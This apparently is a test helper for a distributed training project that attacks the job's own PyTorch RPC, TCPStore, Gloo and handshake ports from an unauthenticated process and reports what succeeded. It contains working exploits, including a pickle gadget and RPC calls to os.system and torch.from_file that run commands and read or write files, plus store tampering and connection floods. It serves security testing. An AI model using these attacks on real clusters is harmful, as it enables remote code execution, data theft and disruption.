"""What a process without a job's secret may try with the job's ports: run as `python -m tests.support.stranger`.

It prints one line of JSON: what it could reach, and by attack, what it got. It attacks whatever listens on the given
ports, so it belongs into a network namespace that only the job is in.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import random
import select
import socket
import struct
import sys
import time
from ast import literal_eval
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import IO

import torch
import torch.distributed as dist
import torch.distributed.rpc as rpc
from torch.distributed.rpc import api, internal

SHORT = timedelta(seconds=1)
HELLO = struct.Struct(">8s32s8sIIB")


def reachable(targets: list[tuple[str, int]]) -> list[tuple[str, int]]:
    """Those that accept a connection; the kernel answers at once, or not at all."""
    tried = {}
    for target in targets:
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(target)
        tried[connection] = target
    time.sleep(1.0)
    _, connected, _ = select.select([], tried, [], 0)
    found = [tried[one] for one in connected if one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0]
    for connection in tried:
        connection.close()
    return found


class Stranger:
    """Attacks on all ports that can be found."""

    def __init__(self, targets: list[tuple[str, int]], folder: Path, num_connections: int):
        self.targets = targets
        self.folder = folder
        self.num_connections = num_connections
        self.draw = random.Random(0)
        (folder / "private.bin").write_bytes(struct.pack("<4f", 31.0, 41.0, 59.0, 26.0))

    def each(self, payload: bytes, *, half_close: bool = True) -> bytes:
        """Send bytes to every port; returns all that came back."""
        came = b""
        for target in self.targets:
            with contextlib.suppress(OSError), socket.create_connection(target, timeout=0.3) as connection:
                connection.sendall(payload)
                if half_close:
                    connection.shutdown(socket.SHUT_WR)
                while part := connection.recv(65536):
                    came += part
        return came

    def many(self, payload: bytes) -> bytes:
        """Open as many connections as this process may, and leave them half open for a while."""
        held = []
        for number in range(self.num_connections if self.targets else 0):
            connection = socket.socket()
            connection.setblocking(False)
            with contextlib.suppress(OSError):
                connection.connect_ex(self.targets[number % len(self.targets)])
                held.append(connection)
            if len(held) > 200:
                with contextlib.suppress(OSError):
                    held[0].send(payload)
                held.pop(0).close()
        time.sleep(0.5)
        return b""

    def resets(self) -> bytes:
        for target in self.targets:
            for _ in range(20):
                with contextlib.suppress(OSError), socket.create_connection(target, timeout=0.2) as connection:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    connection.send(b"x")
        return b""

    def reflected(self) -> bytes:
        """Answer a gate's challenge with its own proof."""
        came = b""
        for target in self.targets:
            with contextlib.suppress(OSError), socket.create_connection(target, timeout=0.3) as connection:
                connection.sendall(gate_hello())
                answer = connection.recv(72)
                connection.sendall(answer[-32:])
                came += connection.recv(4096)
        return came

    def store(self, attack: Callable[[dist.TCPStore], object]) -> list[str]:
        """Use every port as a store's, all at once."""

        def use(target: tuple[str, int]) -> str | None:
            with contextlib.suppress(Exception):
                return repr(attack(dist.TCPStore(*target, is_master=False, wait_for_workers=False, timeout=SHORT)))
            return None

        with ThreadPoolExecutor(16) as pool:
            return [got for got in pool.map(use, self.targets) if got is not None]

    def agent(self, attack: Callable[[], object]) -> list[str]:
        """Use every port as that of an RPC agent, all at once, from agents of this process's own."""
        pipes = [as_agent(host, port, attack) for host, port in self.targets]
        return [came for pipe in pipes if (came := pipe.read())]

    def announced_agent(self, attack: Callable[[], object]) -> list[str]:
        """Use the agent whose address a store shows."""

        def address(store: dist.TCPStore) -> str:
            return next(store.get(key).decode() for key in store.list_keys() if key.endswith("addrs/dock0"))

        found = [literal_eval(shown).removeprefix("uv://").split(":") for shown in self.store(address)]
        pipes = [as_agent(host, int(port), attack) for host, port in found]
        return [came for pipe in pipes if (came := pipe.read())]


def gate_hello(rank: int = 1) -> bytes:
    return HELLO.pack(b"spmdrl 1", bytes(32), bytes(8), rank, 0, 0)


def overwritten(store: dist.TCPStore) -> int:
    keys = store.list_keys()
    for key in keys:
        store.set(key, b"\x00" * 64)
    return len(keys)


def deleted(store: dist.TCPStore) -> int:
    return sum(store.delete_key(key) for key in store.list_keys())


def flooded(store: dist.TCPStore) -> int:
    for number in range(200):
        store.set(f"flood/{number}", b"x" * 10_000)
    return store.num_keys()


def as_agent(host: str, port: int, attack: Callable[[], object]) -> IO[str]:
    """What an attack gets by an agent that believes another one, dock0, to listen there.

    It runs in a child, which its own TensorPipe may abort.
    """
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
        with contextlib.suppress(BaseException):
            store = dist.HashStore()
            dist.PrefixStore("names", store).set("0", "dock0")
            dist.PrefixStore("addrs", store).set("dock0", f"uv://{host}:{port}")
            options = rpc.TensorPipeRpcBackendOptions(rpc_timeout=1, _transports=["uv"], _channels=["basic"])
            rpc.dist_autograd._init(1)
            api._init_rpc_states(rpc.TensorPipeAgent(store, "dock1", 1, 2, options, {}, []))
            os.write(writer, repr(attack()).encode()[:1000])
        os._exit(0)
    os.close(writer)
    return os.fdopen(reader)


@torch.jit.script
def scripted(path: str) -> torch.Tensor:
    return torch.from_file(path, False, 4)


class Gadget:
    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def forged_put() -> object:
    """Our own function, with rows of the stranger's."""
    from spmdrl.dataflow.samples.store.frame import pack
    from spmdrl.dataflow.samples.transport.several_nodes import remote_put
    from spmdrl.nouns.batch import Batch

    batch = Batch.of_rows(range(8))
    batch.put_dense("reward", torch.full((8,), 1e9))
    return rpc.rpc_sync("dock0", remote_put, (pack(batch), torch.tensor(0)), timeout=1)


def attacks(me: Stranger) -> Iterator[tuple[str, Callable[[], object]]]:
    private, created = str(me.folder / "private.bin"), str(me.folder / "created.bin")
    pickled = pickle.dumps(internal.PythonUDF(Gadget(me.folder / "ran"), (), {}))
    yield "connect and leave", lambda: me.each(b"")
    yield "4 KB of zeros", lambda: me.each(bytes(4096))
    yield "64 KB of 0xff", lambda: me.each(b"\xff" * 65536)
    yield "HTTP", lambda: me.each(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    yield "TLS hello", lambda: me.each(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + me.draw.randbytes(505))
    for number in range(int(os.environ.get("SPMDRL_FUZZ", "3"))):
        yield f"random bytes {number}", lambda: me.each(me.draw.randbytes(me.draw.randrange(1, 9000)))
    yield "a TensorPipe frame of 2^62 bytes", lambda: me.each((1 << 62).to_bytes(8, "little") + bytes(64))
    yield "a TensorPipe frame of nothing", lambda: me.each(bytes(8))
    yield "gloo's handshake", lambda: b"".join(me.each(struct.pack("<Q", number)) for number in range(4))
    yield "gloo's handshake, kept open", lambda: me.each(struct.pack("<Q", 0), half_close=False)
    yield "a pickle", lambda: me.each(pickled)
    yield "a gate's hello without proof", lambda: me.each(gate_hello())
    yield "a gate's hello with a false proof", lambda: me.each(gate_hello() + bytes(32))
    yield "a gate's proof reflected", me.reflected
    yield "half a hello, kept open", lambda: me.each(gate_hello()[:20], half_close=False)
    yield "resets", me.resets
    yield "many connections", lambda: me.many(b"\x00" * 100)
    yield "many half hellos", lambda: me.many(gate_hello()[:9])
    yield "list the store", lambda: me.store(lambda store: store.list_keys())
    yield "read the store", lambda: me.store(lambda store: [store.get(key) for key in store.list_keys()])
    yield "overwrite the store", lambda: me.store(overwritten)
    yield "delete from the store", lambda: me.store(deleted)
    yield "flood the store", lambda: me.store(flooded)
    yield (
        "join as rank 1",
        lambda: me.store(lambda store: dist.ProcessGroupGloo(dist.PrefixStore("default_pg/0", store), 1, 2, SHORT)),
    )
    yield (
        "read a file by a built-in operator",
        lambda: me.agent(lambda: rpc.rpc_sync("dock0", torch.from_file, (private, False, 4), timeout=1).tolist()),
    )
    yield (
        "read a file at the address that a store shows",
        lambda: me.announced_agent(
            lambda: rpc.rpc_sync("dock0", torch.from_file, (private, False, 4), timeout=5).tolist()
        ),
    )
    yield (
        "write a file by a built-in operator",
        lambda: me.agent(lambda: rpc.rpc_sync("dock0", torch.from_file, (created, True, 4), timeout=1).tolist()),
    )
    yield (
        "call another built-in operator",
        lambda: me.agent(lambda: rpc.rpc_sync("dock0", torch.add, (torch.ones(1), 1), timeout=1).tolist()),
    )
    yield (
        "call a script function",
        lambda: me.agent(lambda: rpc.rpc_sync("dock0", scripted, (private,), timeout=1).tolist()),
    )
    yield "put forged rows", lambda: me.agent(forged_put)
    yield "run a program", lambda: me.agent(lambda: rpc.rpc_sync("dock0", os.system, (f"touch {me.folder}/ran",)))
    yield (
        "make a remote reference",
        lambda: me.agent(
            lambda: rpc.remote("dock0", torch.from_file, (created, True, 4), timeout=1).to_here(1).tolist()
        ),
    )


def main() -> None:
    """Arguments: a folder of the stranger's own, a number of connections, hosts, ports, names of attacks."""
    folder, num_connections, hosts, ports, chosen = Path(sys.argv[1]), *map(json.loads, sys.argv[2:6])
    os.environ.update(GLOO_SOCKET_IFNAME="lo", TP_SOCKET_IFNAME="lo")
    me = Stranger(reachable([(host, port) for host in hosts for port in ports]), folder, num_connections)
    got: dict[str, object] = {"reachable": me.targets}
    for name, attack in attacks(me):
        if not chosen or name in chosen:
            started = time.monotonic()
            result = attack()
            print(f"{time.monotonic() - started:6.1f} s {name}", file=sys.stderr)
            got[name] = result.hex() if isinstance(result, bytes) else result
    print(json.dumps(got, default=repr))


if __name__ == "__main__":
    main()
